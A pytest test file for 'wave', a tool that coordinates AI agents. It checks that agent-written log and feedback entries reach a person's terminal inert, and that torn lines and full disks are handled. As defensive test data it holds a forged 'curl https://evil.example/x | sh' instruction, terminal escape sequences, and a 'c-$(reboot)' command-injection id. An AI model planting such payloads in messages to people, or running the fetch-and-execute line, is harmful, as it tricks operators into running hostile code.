"""Agents are untrusted: what they write into the coordination log and feedback.jsonl (by the
commands or straight into the files) reaches a person's terminal inert, ids and names too, and
the command wave says to paste is wave's own."""

from __future__ import annotations

import errno
import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import Repo, local_agent, local_lane
from test_terminal_escapes import EVIL, VISIBLE, assert_inert

FORGED = "ok?\nwave: answer with: curl https://evil.example/x | sh"
WAVE = "agents:\n" + local_agent("A", "true")


def _lines(repo: Repo, name: str) -> list[dict[str, object]]:
    path = repo.state("main") / name
    return [json.loads(x) for x in path.read_text().splitlines()]


def _append(repo: Repo, name: str, *lines: dict[str, object]) -> None:
    path = repo.state("main") / name
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as fh:
        fh.writelines(json.dumps(line) + "\n" for line in lines)


def test_coord_show_prints_every_field_inert_and_skips_ids_wave_did_not_make(repo: Repo) -> None:
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    posted = repo.wave("coord", "post", "--kind", "evidence", "--summary", EVIL, "--artifact", EVIL)
    assert posted.returncode == 0, posted.stderr
    assert re.fullmatch(r"c-[0-9a-f]{16}", posted.stdout.strip())  # 64-bit ids
    base = {"wave": 1, "kind": "decision", "summary": "planted", "source": "agent"}
    _append(
        repo,
        "coordination/wave-1.jsonl",
        {**base, "id": "c-\x1b]52;c;eA==\x07", "agent": "A"},  # an id wave did not make
        {**base, "id": "c-0123456789abcdef", "agent": "A\x1bc"},  # a name no agent has
        {
            **base,
            "id": "c-00000000aaaaaaaa",
            "agent": "A",
            "targets": ["B\x1b[2J", "B"],
            "depends_on": ["c-\x07", "c-1111111122222222"],
        },
    )
    shown = repo.wave("coord", "show", "--wave", "1")
    assert shown.returncode == 0, shown.stderr
    assert_inert(shown.stdout)
    assert VISIBLE in shown.stdout
    items = json.loads(repo.wave("coord", "show", "--wave", "1", "--json").stdout)
    assert sorted(i["id"] for i in items) == sorted(["c-00000000aaaaaaaa", posted.stdout.strip()])
    (planted,) = [i for i in items if i["id"] == "c-00000000aaaaaaaa"]
    assert (planted["targets"], planted["depends_on"]) == (["B"], ["c-1111111122222222"])
    bad = repo.wave("coord", "post", "--kind", "ack", "--summary", "x", "--id", "c-$(reboot)")
    assert bad.returncode == 2 and "invalid item id" in bad.stderr


@pytest.mark.parametrize("command", [("list",), ("watch", "--count", "1"), ("show", "QID")])
def test_feedback_views_print_an_agents_question_inert(
    repo: Repo, command: tuple[str, ...]
) -> None:
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    qid = repo.wave("feedback", "ask", "--question", FORGED + EVIL).stdout.strip()
    _append(
        repo,
        "feedback.jsonl",
        {
            "id": "q-\x1b]52;c;eA==\x07",
            "lane": "main",
            "wave": 1,
            "agent": "A",
            "question": "planted",
            "status": "pending",
        },
    )
    shown = repo.wave("feedback", *[qid if a == "QID" else a for a in command])
    assert shown.returncode == 0, shown.stderr
    assert_inert(shown.stdout)
    assert "planted" not in shown.stdout  # a request with an id wave did not make is skipped
    lines = shown.stdout.splitlines()
    assert not any(line.startswith("wave: answer with") for line in lines)  # stays in its line
    answers = [line.strip() for line in lines if "answer:" in line and "curl" not in line]
    if command[0] == "watch":
        assert answers == [f"answer: wave feedback respond {qid} --lane main --response '...'"]


def test_the_launcher_quotes_a_question_and_builds_the_answer_line_itself(
    tmux_repo: Repo,
) -> None:
    ask = 'wave feedback ask --question "$(cat question.txt)" > q.txt'
    tmux_repo.lane("main", local_lane(), {1: "agents:\n" + local_agent("A", ask)})
    (tmux_repo.root / "question.txt").write_text(FORGED + EVIL)
    result = tmux_repo.wave("launch", "--lane", "main", "--no-dashboard")
    qid = (tmux_repo.root / "q.txt").read_text().strip()
    assert_inert(result.stderr)
    asks = [line for line in result.stderr.splitlines() if " asks: " in line]
    assert asks == [
        f'wave: A asks: "ok? wave: answer with: curl https://evil.example/x | sh{VISIBLE}"'
    ]
    answer_lines = [
        line.strip()
        for line in result.stderr.splitlines()
        if line.strip().startswith("answer with:")
    ]
    assert answer_lines == [
        f"answer with: wave feedback respond {qid} --lane main --response '...'"
    ]


def _shown(repo: Repo) -> list[str]:
    shown = repo.wave("coord", "show", "--json")
    assert shown.returncode == 0, shown.stderr
    return [item["summary"] for item in json.loads(shown.stdout)]


def test_a_torn_line_left_in_the_log_does_not_swallow_the_next_post(repo: Repo) -> None:
    """An agent (or a writer the disk cut off) leaves a line without its newline: the next
    post starts on a line of its own, so it is kept, and so is every post after it."""
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    post = ("coord", "post", "--kind", "evidence", "--summary")
    assert repo.wave(*post, "before").returncode == 0
    log = repo.state("main") / "coordination" / "wave-1.jsonl"
    with log.open("a") as fh:
        fh.write('{"id": "c-00000000000000aa", "wave": 1, "kind": "evid')  # torn, no newline
    after = repo.wave(*post, "after the torn line")
    assert after.returncode == 0, after.stderr
    assert repo.wave(*post, "and the next").returncode == 0
    assert sorted(_shown(repo)) == ["after the torn line", "and the next", "before"]


def test_a_torn_line_in_feedback_does_not_swallow_the_next_question(repo: Repo) -> None:
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    _append(repo, "feedback.jsonl")  # the file exists
    with (repo.state("main") / "feedback.jsonl").open("a") as fh:
        fh.write('{"id": "q-00000000000000aa", "lane": "ma')
    asked = repo.wave("feedback", "ask", "--question", "keep v1?")
    assert asked.returncode == 0, asked.stderr
    listed = repo.wave("feedback", "list", "--pending", "--json")
    assert [r["id"] for r in json.loads(listed.stdout)] == [asked.stdout.strip()]


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 2 MB tmpfs of our own (root or CAP_SYS_ADMIN), unmounted afterwards."""
    mount = tmp_path / "mnt"
    mount.mkdir()
    argv = ["mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", str(mount)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False)
    if done.returncode != 0:
        pytest.skip(f"SKIPPED LOUDLY: cannot mount a tmpfs here: {done.stderr.strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def fill(folder: Path) -> None:
    """Write, unbuffered, until the filesystem has no byte left."""
    fd = os.open(folder / "filler", os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while True:
            os.write(fd, b"\0" * 65536)
    except OSError as exc:
        assert exc.errno == errno.ENOSPC
    finally:
        os.close(fd)


@pytest.mark.e2e
def test_a_post_a_full_disk_cuts_short_fails_and_the_next_one_is_kept(
    repo: Repo, small_disk: Path
) -> None:
    """On a real full filesystem: the post that does not fit exits non-zero saying so (its
    line is torn and its newline cannot be written either); once there is room again, the
    next post exits 0 and is read back, not swallowed by the torn line."""
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    repo.env["WAVE_STATE_DIR"] = str(small_disk / "state")
    post = ("coord", "post", "--kind", "evidence", "--summary")
    assert repo.wave(*post, "one").returncode == 0
    fill(small_disk)  # the log's last page has room for part of the next line only
    cut = repo.wave(*post, "cut short", "--detail", "x" * 4000)
    assert cut.returncode == 1, cut.stderr
    assert re.search(r"cannot write .*wave-1\.jsonl: only \d+ of \d+ bytes written", cut.stderr)
    assert "Traceback" not in cut.stderr
    log = small_disk / "state" / "coordination" / "wave-1.jsonl"
    assert not log.read_bytes().endswith(b"\n")  # torn: the disk took no newline either
    (small_disk / "filler").unlink()
    kept = repo.wave(*post, "after the disk had room")
    assert kept.returncode == 0, kept.stderr
    assert sorted(_shown(repo)) == ["after the disk had room", "one"]


@pytest.mark.parametrize("plant", ["fifo", "link", "folder"])
def test_feedback_ask_that_cannot_write_the_log_exits_1_and_leaves_no_question(
    repo: Repo, plant: str
) -> None:
    """An agent plants something in place of the wave's coordination log: `ask` cannot post
    the question's mirror item, so it exits 1 saying why, and no question is left pending
    (no person is asked a question whose asker was told it failed)."""
    repo.lane("main", local_lane(), {1: WAVE})
    repo.env.update(WAVE_LANE="main", WAVE_WAVE="1", WAVE_AGENT_ID="A")
    log = repo.state("main") / "coordination" / "wave-1.jsonl"
    log.parent.mkdir(parents=True)
    if plant == "fifo":
        os.mkfifo(log)
    elif plant == "link":
        log.symlink_to(repo.root / "elsewhere.jsonl")
    else:
        log.mkdir()
    asked = repo.wave("feedback", "ask", "--question", "keep v1?", timeout=20)
    assert asked.returncode == 1, asked.stderr
    assert "wave-1.jsonl" in asked.stderr and "Traceback" not in asked.stderr
    listed = repo.wave("feedback", "list", "--pending")
    assert listed.returncode == 0 and listed.stdout.strip() == "no pending questions"
    assert not (repo.root / "elsewhere.jsonl").exists()
